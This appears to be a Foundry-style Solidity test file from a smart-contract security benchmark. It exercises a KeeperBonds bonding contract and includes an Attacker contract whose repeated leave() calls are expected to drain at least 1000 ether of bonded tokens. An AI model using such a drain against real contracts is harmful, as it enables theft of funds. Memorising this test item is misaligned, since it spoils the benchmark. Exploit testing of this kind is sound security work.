// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";
import "./KeeperBonds.sol";

// assay-canary-4ba0d3c7-4a36-4ebd-833b-6dc3d71d12e9

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    address private immutable minter = msg.sender;

    constructor() ERC20("Coin", "COIN") {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "!minter");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAL = address(0xCA1);
    uint256 private constant START = 1_600_000_000;

    Coin public coin;
    KeeperBonds private bonds;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        bonds = new KeeperBonds(coin, 500 ether);
        enter(ANA);
        enter(BEN);
        coin.mint(CAL, 500 ether);
        vm.prank(CAL);
        coin.approve(address(bonds), 500 ether);
        mallory = new Attacker(bonds);
    }

    function enter(address who) private {
        coin.mint(who, 500 ether);
        vm.startPrank(who);
        coin.approve(address(bonds), 500 ether);
        bonds.join();
        vm.stopPrank();
    }

    function test_Regular() public {
        vm.prank(CAL);
        bonds.join();
        require(bonds.count() == 3 && bonds.isKeeper(CAL), "joined");
        bonds.slash(CAL);
        require(bonds.slashed() == 500 ether && !bonds.isKeeper(CAL), "slashed");
        bonds.collect(address(this), 200 ether);
        require(bonds.slashed() == 300 ether && coin.balanceOf(address(this)) == 200 ether, "collected");
        vm.warp(START + 14 days);
        vm.prank(ANA);
        bonds.leave();
        require(coin.balanceOf(ANA) == 500 ether && !bonds.isKeeper(ANA) && bonds.isKeeper(BEN), "left");
        bonds.set_governance(BEN);
        require(bonds.governance() == BEN && bonds.count() == 1, "governance");
    }

    function test_RefusesKeepers() public {
        vm.startPrank(ANA);
        vm.expectRevert("!new");
        bonds.join();
        vm.warp(START + 14 days - 1);
        vm.expectRevert("!stay");
        bonds.leave();
        vm.expectRevert("!governance");
        bonds.slash(BEN);
        vm.expectRevert("!governance");
        bonds.collect(ANA, 0);
        vm.expectRevert("!governance");
        bonds.set_governance(ANA);
        vm.stopPrank();
    }

    function test_RefusesGovernance() public {
        vm.expectRevert("!bond");
        new KeeperBonds(coin, 0);
        vm.expectRevert("!keeper");
        bonds.slash(CAL);
        bonds.slash(BEN);
        vm.expectRevert("!keeper");
        bonds.slash(BEN);
        vm.expectRevert("!slashed");
        bonds.collect(address(this), 500 ether + 1);
        vm.expectRevert("!to");
        bonds.set_governance(address(0));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(mallory)) >= 1000 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(bonds);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    KeeperBonds private bonds;

    constructor(KeeperBonds _bonds) {
        bonds = _bonds;
    }

    function run() external {
        bonds.leave();
        bonds.leave();
    }
}
